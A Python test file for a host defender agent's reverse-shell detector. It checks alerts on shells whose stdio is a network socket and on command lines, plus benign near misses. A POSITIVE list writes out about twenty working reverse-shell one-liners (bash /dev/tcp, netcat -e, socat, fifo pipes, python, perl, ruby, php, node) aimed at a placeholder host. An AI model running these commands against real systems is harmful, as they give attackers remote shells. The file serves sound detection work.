"""Reverse-shell detector: shells whose stdio is a network socket (a fake /proc, and the
real one in a network namespace of its own) and reverse-shell command lines, with the
near misses that must stay quiet."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any, Callable

import pytest

from defender_agent import config
from defender_agent.agent import Agent
from defender_agent.clock import ManualClock
from defender_agent.detectors import reverse_shell
from defender_agent.detectors.reverse_shell import MAX_TREES, ReverseShellDetector
from defender_agent.model import Record, rfc3339

T0 = 1_795_000_000.0
HEADER = (
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
    "timeout inode\n"
)
SOCK = "socket:[5001]"


@pytest.fixture
def detector(
    detector_section: Callable[..., dict[str, Any]],
) -> Callable[..., ReverseShellDetector]:
    """A reverse-shell detector from the schema's defaults with `settings` over them,
    reading `proc` (by default none)."""

    def make(proc: Path | str = "/nonexistent", **settings: Any) -> ReverseShellDetector:
        agent = Agent("t", ManualClock(T0 + 600))
        section = detector_section("reverse_shell", proc=str(proc), **settings)
        return reverse_shell.create(agent.context("detectors", "reverse_shell"), section, {})

    return make


def exec_event(
    t: float = 0.0,
    executable: str | None = "/usr/bin/bash",
    cmdline: str | None = "bash",
    pid: int = 4242,
    ppid: int = 812,
    parent_executable: str = "/usr/sbin/cron",
    parent_cmdline: str = "/usr/sbin/CRON -f",
) -> Record:
    return Record(
        "event",
        {
            "event": "process-exec",
            "pid": pid,
            "ppid": ppid,
            "uid": 0,
            "euid": 0,
            "user": "root",
            "executable": executable,
            "deleted": False,
            "cmdline": cmdline,
            "cwd": "/root",
            "parent_executable": parent_executable,
            "parent_cmdline": parent_cmdline,
            "start_time": T0 + t,
            "backend": "netlink",
        },
        T0 + t,
    )


def fake_process(
    root: Path,
    pid: int,
    exe: str,
    fds: dict[int, str],
    tables: dict[str, list[str]] | None = None,
) -> None:
    """/proc/PID with exe, fd/0..2 and net/{tcp,tcp6,udp,udp6} as the kernel shows them."""
    base = root / str(pid)
    (base / "fd").mkdir(parents=True)
    (base / "net").mkdir()
    os.symlink(exe, base / "exe")
    for fd, target in fds.items():
        os.symlink(target, base / "fd" / str(fd))
    for name in ("tcp", "tcp6", "udp", "udp6"):
        (base / "net" / name).write_text(HEADER + "".join((tables or {}).get(name, [])))


def feed(det: ReverseShellDetector, *records: Record) -> list[dict[str, Any]]:
    return [a.payload for r in records for a in det.process(r)]


ALL_SOCKET = {0: SOCK, 1: SOCK, 2: SOCK}


# --- live sockets (a fake /proc) ----------------------------------------------------


def test_a_shell_whose_stdio_is_an_outgoing_tcp_connection(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
    fake_process(tmp_path, 4242, "/usr/bin/bash", ALL_SOCKET, {"tcp": [row]})
    det = detector(tmp_path)
    (alert,) = feed(det, exec_event(cmdline="bash -i"))
    assert (alert["name"], alert["severity"]) == ("ReverseShell", "high")
    assert (alert["remote_address"], alert["remote_port"], alert["direction"]) == (
        "203.0.113.5",
        4444,
        "out",
    )
    assert (alert["local_address"], alert["local_port"], alert["protocol"]) == (
        "192.0.2.10",
        40000,
        "tcp",
    )
    assert alert["stdio_sockets"] == ["stdin", "stdout", "stderr"]
    assert alert["remote_from"] == "socket" and alert["patterns"] == []
    assert (alert["pid"], alert["ppid"], alert["executable"], alert["cmdline"]) == (
        4242,
        812,
        "/usr/bin/bash",
        "bash -i",
    )
    assert "203.0.113.5:4444" in alert["description"] and alert["remediation"]
    assert alert["first_seen"] == alert["last_seen"] == rfc3339(T0) and alert["count"] == 1
    assert alert["id"].startswith("ReverseShell-")
    assert det.statistics()["stdio-network"] == 1


def test_a_bind_shell_is_incoming_and_an_ipv4_peer_of_a_v6_socket_reads_as_ipv4(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    rows = [
        proc_line("::", 31337, "::", 0, 0x0A, 77),  # the listener
        proc_line("::ffff:192.0.2.10", 31337, "::ffff:198.51.100.7", 51000, 1, 5001),
    ]
    fake_process(tmp_path, 4242, "/bin/busybox", ALL_SOCKET, {"tcp6": rows})
    (alert,) = feed(detector(tmp_path), exec_event(executable="/bin/busybox", cmdline="sh"))
    assert (alert["direction"], alert["remote_address"], alert["local_port"]) == (
        "in",
        "198.51.100.7",
        31337,
    )
    assert "from 198.51.100.7:51000" in alert["description"]


def test_a_udp_socket_counts_too(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 40000, "203.0.113.5", 53, 1, 5001)
    fake_process(tmp_path, 4242, "/usr/bin/dash", {0: SOCK, 1: SOCK}, {"udp": [row]})
    (alert,) = feed(detector(tmp_path), exec_event(executable="/usr/bin/dash", cmdline="sh"))
    assert (alert["protocol"], alert["remote_port"]) == ("udp", 53)
    assert alert["stdio_sockets"] == ["stdin", "stdout"]


def test_near_miss_bash_started_by_sshd_on_a_pty(
    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
) -> None:
    pts = {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"}
    fake_process(tmp_path, 4242, "/usr/bin/bash", pts)
    det = detector(tmp_path)
    event = exec_event(
        cmdline="-bash", parent_executable="/usr/sbin/sshd", parent_cmdline="sshd: admin@pts/0"
    )
    assert feed(det, event) == []
    assert det.statistics()["shells-looked-at"] == 1


def test_near_miss_a_service_shell_writing_to_journald(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    """systemd connects a service's stdout and stderr to journald with a Unix socket (and
    stdin too with StandardInput=socket of a unix listener): in no inet table."""
    unix = "socket:[9999]"
    other = proc_line("192.0.2.10", 22, "198.51.100.7", 50000, 1, 1234)
    fake_process(tmp_path, 4242, "/usr/bin/sh", {0: unix, 1: unix, 2: unix}, {"tcp": [other]})
    det = detector(tmp_path)
    assert feed(det, exec_event(executable="/usr/bin/sh", cmdline="/bin/sh /usr/lib/x.sh")) == []
    assert det.statistics()["stdio-other-socket"] == 1


def test_near_miss_an_inetd_style_daemon_that_is_not_a_shell(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 69, "198.51.100.7", 50000, 1, 5001)
    fake_process(tmp_path, 4242, "/usr/sbin/in.tftpd", ALL_SOCKET, {"udp": [row]})
    det = detector(tmp_path)
    event = exec_event(
        executable="/usr/sbin/in.tftpd",
        cmdline="in.tftpd -s /srv/tftp",
        parent_executable="/usr/sbin/inetd",
    )
    assert feed(det, event) == []
    assert det.statistics()["shells-looked-at"] == 0


def test_a_shell_service_under_an_allowed_inetd(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 7777, "198.51.100.7", 50000, 1, 5001)
    fake_process(tmp_path, 4242, "/bin/sh", ALL_SOCKET, {"tcp": [row]})
    event = exec_event(
        executable="/bin/sh", cmdline="sh /usr/lib/status.sh", parent_executable="/usr/sbin/inetd"
    )
    allowed = detector(tmp_path, allow_parents=["/usr/sbin/inetd"])
    assert feed(allowed, event) == []
    assert allowed.statistics()["allowed-parent"] == 1
    assert len(feed(detector(tmp_path), event)) == 1  # without the allowance it is one


def test_near_miss_a_listening_socket_on_stdin(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    """inetd's `wait` services get the listening socket itself: no peer, no alert."""
    row = proc_line("0.0.0.0", 7777, "0.0.0.0", 0, 0x0A, 5001)
    fake_process(tmp_path, 4242, "/bin/sh", ALL_SOCKET, {"tcp": [row]})
    assert feed(detector(tmp_path), exec_event(executable="/bin/sh", cmdline="sh")) == []


def test_stdin_alone_or_two_different_sockets_is_no_finding(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
    fake_process(tmp_path, 4242, "/bin/sh", {0: SOCK, 1: "/dev/null"}, {"tcp": [row]})
    fake_process(tmp_path, 4243, "/bin/sh", {0: SOCK, 1: "socket:[6]"}, {"tcp": [row]})
    det = detector(tmp_path)
    assert feed(det, exec_event(executable="/bin/sh", cmdline="sh")) == []
    assert feed(det, exec_event(executable="/bin/sh", cmdline="sh", pid=4243)) == []


def test_a_process_gone_before_the_look_leaves_its_command_line(
    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
) -> None:
    det = detector(tmp_path)
    assert feed(det, exec_event(cmdline="bash -i")) == []
    (alert,) = feed(
        det, exec_event(cmdline="bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", pid=4243)
    )
    assert alert["patterns"] == ["dev-tcp"] and alert["remote_from"] == "command line"
    assert (alert["remote_address"], alert["remote_port"]) == ("203.0.113.5", 4444)
    assert det.statistics()["gone-before-look"] == 2


def test_a_reused_pid_is_not_looked_at(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
    fake_process(tmp_path, 4242, "/usr/sbin/sshd", ALL_SOCKET, {"tcp": [row]})
    det = detector(tmp_path)
    assert feed(det, exec_event(executable="/usr/bin/bash", cmdline="bash")) == []
    assert det.statistics()["pid-reused"] == 1


def test_a_cut_socket_table_is_counted(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    rows = [proc_line("192.0.2.10", 1000 + n, "192.0.2.1", 80, 1, 100 + n) for n in range(20)]
    rows.append(proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001))
    fake_process(tmp_path, 4242, "/usr/bin/bash", ALL_SOCKET, {"tcp": rows})
    det = detector(tmp_path, max_socket_rows=8)
    assert feed(det, exec_event()) == []
    assert det.statistics()["socket-table-cut"] >= 1


# --- command lines --------------------------------------------------------------------

POSITIVE = [
    ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "dev-tcp"),
    ("/usr/bin/bash", "bash -c sh -i >& /dev/udp/203.0.113.5/4444 0>&1", "dev-tcp"),
    (
        "/usr/bin/bash",
        "bash -c exec 5<>/dev/tcp/203.0.113.5/4444;cat <&5 | while read l; do $l 2>&5 >&5; done",
        "dev-tcp",
    ),
    ("/bin/busybox", "nc 203.0.113.5 4444 -e /bin/sh", "netcat-exec"),
    ("/bin/busybox", "busybox nc 203.0.113.5 4444 -e sh", "netcat-exec"),
    ("/usr/bin/nc.traditional", "nc -nlvp 4444 -e /bin/bash", "netcat-exec"),
    ("/usr/bin/ncat", "ncat 203.0.113.5 4444 --sh-exec /bin/sh", "netcat-exec"),
    ("/usr/bin/ncat", "ncat 203.0.113.5 4444 -c bash", "netcat-exec"),
    ("/usr/bin/socat", "socat tcp:203.0.113.5:4444 exec:/bin/sh,pty,stderr,setsid", "socat-exec"),
    ("/usr/bin/socat", "socat TCP4-LISTEN:4444,fork SYSTEM:bash", "socat-exec"),
    (
        "/bin/sh",
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
        "fifo-pipe",
    ),
    (
        "/bin/sh",
        "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet "
        "-connect 203.0.113.5:4444 > /tmp/s",
        "fifo-pipe",
    ),
    ("/bin/sh", "sh -c telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445", "telnet-pipe"),
    (
        "/usr/bin/python3.11",
        "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
        'socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0); '
        'os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/sh")',
        "python-socket",
    ),
    (
        "/usr/bin/perl",
        'perl -e use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,'
        'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
        'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
        "perl-socket",
    ),
    (
        "/usr/bin/ruby",
        'ruby -rsocket -e f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf'
        '("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        "ruby-socket",
    ),
    (
        "/usr/bin/php8.2",
        'php -r $sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
        "php-socket",
    ),
    (
        "/usr/bin/lua5.4",
        "lua -e require('socket');t=socket.tcp();t:connect('203.0.113.5','4444');"
        "os.execute('/bin/sh -i <&3 >&3 2>&3');",
        "lua-socket",
    ),
    (
        "/usr/bin/gawk",
        'awk BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while(42) { do{ printf "shell>" |& s',
        "awk-inet",
    ),
    (
        "/usr/bin/node",
        "node -e require('child_process').exec('sh',function(){});var n=require('net');"
        "var c=new n.Socket();c.connect(4444,'203.0.113.5')",
        "node-socket",
    ),
]


@pytest.mark.parametrize(("exe", "cmdline", "pattern"), POSITIVE, ids=[p[2] for p in POSITIVE])
def test_reverse_shell_command_lines(
    exe: str, cmdline: str, pattern: str, detector: Callable[..., ReverseShellDetector]
) -> None:
    (alert,) = feed(detector(), exec_event(executable=exe, cmdline=cmdline))
    assert pattern in alert["patterns"]
    assert alert["cmdline"] == cmdline and alert["executable"] == exe
    assert alert["severity"] == "high" and pattern in alert["description"]


NEAR_MISSES = [
    ("/usr/bin/ssh", "ssh -R 8080:localhost:80 admin@198.51.100.7"),
    ("/usr/bin/ssh", "ssh -N -L 5432:127.0.0.1:5432 -R 9000:localhost:9000 backup@192.0.2.1"),
    ("/usr/bin/nc.openbsd", "nc -l 192.168.1.10 9000"),
    ("/usr/bin/nc.openbsd", "nc -lk -p 9000 -s 192.168.1.10"),
    ("/usr/bin/nc.openbsd", "nc -zv 192.0.2.1 22"),
    ("/usr/bin/python3", "python3 -m http.server 8000"),
    ("/usr/bin/python3", "python3 /usr/lib/socket-helper.py --exec"),
    ("/usr/bin/bash", "bash -c timeout 1 bash -c '</dev/tcp/192.0.2.1/22' && echo open"),
    ("/usr/bin/bash", "bash -c echo > /dev/tcp/192.0.2.1/80"),
    ("/usr/bin/socat", "socat pty,link=/dev/ttyV0,raw exec:/usr/bin/modem-sim"),
    ("/usr/bin/socat", "socat tcp-listen:8080,fork tcp:192.0.2.1:80"),
    ("/usr/bin/perl", "perl -e print 'socket'"),
    ("/usr/bin/rsync", "rsync -e ssh -a /data backup@192.0.2.1:/srv"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/curl", "curl -s http://192.0.2.1/socket?exec=1"),
    ("/usr/bin/journalctl", "journalctl -u sshd -e"),
]


@pytest.mark.parametrize(("exe", "cmdline"), NEAR_MISSES, ids=[n[1][:40] for n in NEAR_MISSES])
def test_near_misses_raise_nothing(
    exe: str, cmdline: str, detector: Callable[..., ReverseShellDetector]
) -> None:
    assert feed(detector(), exec_event(executable=exe, cmdline=cmdline)) == []


# --- incidents ------------------------------------------------------------------------


def test_a_reverse_shell_cron_starts_again_is_one_incident_with_a_count(
    detector: Callable[..., ReverseShellDetector],
) -> None:
    det = detector(update_every=300.0)
    cmd = "nc 203.0.113.5 4444 -e /bin/sh"
    (first,) = feed(det, exec_event(0, "/bin/nc", cmd, pid=100))
    for n in range(1, 5):  # every minute, a new pid
        assert feed(det, exec_event(60 * n, "/bin/nc", cmd, pid=100 + n)) == []
    (update,) = feed(det, exec_event(300, "/bin/nc", cmd, pid=200))
    assert update["id"] == first["id"] and update["update"] is True and update["count"] == 6
    assert update["first_seen"] == rfc3339(T0) and update["last_seen"] == rfc3339(T0 + 300)


def test_quiet_ends_an_incident_on_event_time(
    detector: Callable[..., ReverseShellDetector],
) -> None:
    det = detector(quiet=600.0)
    cmd = "ncat 203.0.113.5 4444 -c sh"
    (a,) = feed(det, exec_event(0, "/usr/bin/ncat", cmd, pid=100))
    (same,) = feed(det, exec_event(600, "/usr/bin/ncat", cmd, pid=101))  # at the edge
    assert same["id"] == a["id"] and same["update"] is True and same["count"] == 2
    (b,) = feed(det, exec_event(1200.5, "/usr/bin/ncat", cmd, pid=102))  # quiet > 600 s
    assert b["id"] != a["id"] and b["count"] == 1 and "update" not in b


def test_a_process_tree_is_one_incident(
    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
) -> None:
    """nc -e starts /bin/sh on the connection: the shell's socket finding joins nc's."""
    row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
    fake_process(tmp_path, 101, "/bin/dash", ALL_SOCKET, {"tcp": [row]})
    det = detector(tmp_path)
    assert len(feed(det, exec_event(0, "/bin/nc", "nc 203.0.113.5 4444 -e /bin/sh", pid=100)))
    shell = exec_event(0.1, "/bin/dash", "/bin/sh", pid=101, ppid=100)
    assert feed(det, shell) == []
    assert det.statistics()["findings"] == 2 and det.statistics()["alerts"] == 1


# --- hostile input ------------------------------------------------------------------------


def test_hostile_command_lines_are_capped(detector: Callable[..., ReverseShellDetector]) -> None:
    det = detector()
    late = "A" * 1_000_000 + " bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
    assert feed(det, exec_event(cmdline=late)) == []  # beyond the 4096 characters looked at
    weird = "bash -c \\xff\\xfe\udcff bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 " + "é" * 5000
    (alert,) = feed(det, exec_event(cmdline=weird, pid=9))
    assert len(alert["cmdline"]) <= 512 and alert["cmdline"].endswith("…")
    json.dumps(alert, ensure_ascii=False).encode("utf-8", "surrogateescape")
    (odd,) = feed(
        det, exec_event(cmdline="bash -c bash -i >& /dev/tcp/h/\u00b2\u00b3 0>&1", pid=11)
    )
    assert odd["remote_port"] is None  # a port of Unicode digits is no port
    for value in (None, 17, "", " " * 10_000):
        assert feed(det, exec_event(cmdline=value, executable=None, pid=10)) == []  # type: ignore[arg-type]
    assert feed(det, Record("event", {"event": "process-exec", "pid": "x"}, T0)) == []


def test_many_distinct_incidents_stay_bounded(
    detector: Callable[..., ReverseShellDetector],
) -> None:
    det = detector(max_incidents=8)
    for n in range(MAX_TREES + 50):
        feed(det, exec_event(n, "/bin/nc", f"nc 203.0.113.{n % 250} {n} -e sh", pid=1000 + n))
    stats = det.statistics()
    assert stats["incidents-open"] == 8 and stats["incidents-forgotten"] == MAX_TREES + 42
    assert stats["trees-forgotten"] == 50 and len(det._trees) == MAX_TREES


# --- configuration ----------------------------------------------------------------------


def test_create_and_describe_from_a_section(
    tmp_path: Path, detector_section: Callable[..., dict[str, Any]]
) -> None:
    agent = Agent("t", ManualClock(T0))
    det = reverse_shell.create(
        agent.context("detectors", "reverse_shell"), detector_section("reverse_shell"), {}
    )
    assert det.name == "reverse_shell" and det.proc == "/proc"
    lines = reverse_shell.describe(detector_section("reverse_shell"))
    assert any("12 patterns" in line for line in lines)
    assert det.save_state() == {} and det.statistics()["execs"] == 0


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ("no colon here", "NAME: KIND"),
        ("x: has", "KIND=ALT"),
        ("x: grep=foo", "KIND one of"),
        ("x: opt=long", "single letters"),
        ("x: has=,", "no alternative"),
        ("x:", "no terms"),
    ],
)
def test_a_bad_pattern_is_a_configuration_error(
    entry: str, why: str, detector_section: Callable[..., dict[str, Any]]
) -> None:
    section = detector_section("reverse_shell")
    section["patterns"].append(entry)
    with pytest.raises(config.ConfigError, match=why) as info:
        reverse_shell.describe(section)
    assert "detectors.reverse_shell.patterns: pattern 13" in str(info.value)


def test_patterns_are_data_with_escapes(detector: Callable[..., ReverseShellDetector]) -> None:
    det = detector(patterns=["tool: prog=mytool has=--pipe%20into%2Csh arg=-x"])
    assert feed(det, exec_event(executable="/opt/mytool", cmdline="mytool -x --pipe  into,sh"))
    assert not feed(det, exec_event(executable="/opt/mytool", cmdline="mytool --pipe into,sh"))


# --- the real kernel ----------------------------------------------------------------------

LIVE = r"""
import fcntl, json, os, socket, struct, subprocess
from defender_agent.agent import Agent
from defender_agent.clock import ManualClock
from defender_agent import config
from defender_agent.detectors import reverse_shell
from defender_agent.model import Record

# a fresh network namespace has its loopback down: SIOCGIFFLAGS, then SIOCSIFFLAGS | IFF_UP
ctl = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flags = struct.unpack("16sh", fcntl.ioctl(ctl, 0x8913, struct.pack("16sh", b"lo", 0)))[1]
fcntl.ioctl(ctl, 0x8914, struct.pack("16sh", b"lo", flags | 1))

server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
port = server.getsockname()[1]
client = socket.create_connection(("127.0.0.1", port))
peer, _ = server.accept()
shell = subprocess.Popen(["sh"], stdin=client, stdout=client, stderr=client)
left, right = socket.socketpair()  # a Unix socket, as journald gives services
quiet = subprocess.Popen(["sh"], stdin=left, stdout=left, stderr=left)

det = reverse_shell.create(
    Agent("live", ManualClock(0)).context("detectors", "reverse_shell"),
    config.defaults()["detectors.reverse_shell"],
    {},
)

def event(pid):
    exe = os.readlink(f"/proc/{pid}/exe")
    payload = {"event": "process-exec", "pid": pid, "ppid": os.getpid(), "uid": 0,
               "user": "root", "executable": exe, "cmdline": "sh", "cwd": "/",
               "parent_executable": None, "parent_cmdline": None}
    return Record("event", payload, 1.0)

alerts = [a.payload for a in det.process(event(shell.pid))]
unix = [a.payload for a in det.process(event(quiet.pid))]
peer.sendall(b"exit\n")
right.sendall(b"exit\n")
shell.wait(timeout=10)
quiet.wait(timeout=10)
print(json.dumps({"port": port, "alerts": alerts, "unix": unix}))
"""


def test_live_a_real_sh_on_a_tcp_connection_in_its_own_namespace(
    run_child: Callable[..., str],
) -> None:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("needs root and unshare(1) for a network namespace of its own")
    if shutil.which("sh") is None:
        pytest.skip("no sh on PATH: the live reverse shell needs a real shell to exec")
    out = json.loads(run_child(LIVE, "unshare", "--net"))
    (alert,) = out["alerts"]
    assert alert["name"] == "ReverseShell"
    assert (alert["remote_address"], alert["remote_port"]) == ("127.0.0.1", out["port"])
    assert alert["direction"] == "out" and alert["stdio_sockets"] == ["stdin", "stdout", "stderr"]
    assert f"127.0.0.1:{out['port']}" in alert["description"]
    assert out["unix"] == []


BENIGN = [
    ("/usr/bin/apt-get", "apt-get -y upgrade", "/usr/bin/bash", "-bash"),
    ("/usr/bin/dpkg", "/usr/bin/dpkg --configure -a", "/usr/bin/apt-get", "apt-get -y upgrade"),
    (
        "/usr/bin/dash",
        "/bin/sh /var/lib/dpkg/info/openssh-server.postinst configure",
        "/usr/bin/dpkg",
        "/usr/bin/dpkg --configure -a",
    ),
    (
        "/usr/bin/dash",
        "/bin/sh -c run-parts --report /etc/cron.hourly",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    ),
    ("/usr/sbin/dhclient", "dhclient -4 -v eth0", "/usr/sbin/ifup", "ifup eth0"),
    ("/usr/bin/bash", "/bin/sh /sbin/dhclient-script", "/usr/sbin/dhclient", "dhclient -4"),
    ("/usr/sbin/ntpd", "/usr/sbin/ntpd -p /run/ntpd.pid -g -u 105:107", "/sbin/init", "init"),
    ("/usr/bin/bash", "-bash", "/usr/sbin/sshd", "sshd: admin@pts/0"),
    ("/usr/bin/ps", "ps aux", "/usr/bin/bash", "-bash"),
    ("/usr/bin/top", "top", "/usr/bin/bash", "-bash"),
    ("/usr/bin/ss", "ss -tunap", "/usr/bin/bash", "-bash"),
    ("/usr/bin/journalctl", "journalctl -f", "/usr/bin/bash", "-bash"),
    ("/usr/bin/make", "make -j2", "/usr/bin/bash", "-bash"),
    ("/usr/bin/gcc", "gcc -O2 -c socket.c -o socket.o", "/usr/bin/make", "make -j2"),
    ("/usr/bin/python3.11", "python3 setup.py build", "/usr/bin/bash", "-bash"),
]


def test_a_benign_workload_raises_nothing(
    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
) -> None:
    """With the shells on a pty (the admin) or pipes and journald's Unix socket."""
    pts = {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"}
    journal = {0: "/dev/null", 1: "socket:[77]", 2: "socket:[77]"}
    records = []
    for n, (exe, cmd, pexe, pcmd) in enumerate(BENIGN):
        fake_process(tmp_path, 100 + n, exe, pts if "sshd" in pcmd or pcmd == "-bash" else journal)
        records.append(exec_event(n, exe, cmd, 100 + n, 1, pexe, pcmd))
    det = detector(tmp_path)
    assert feed(det, *records) == []
    assert det.statistics()["shells-looked-at"] >= 5
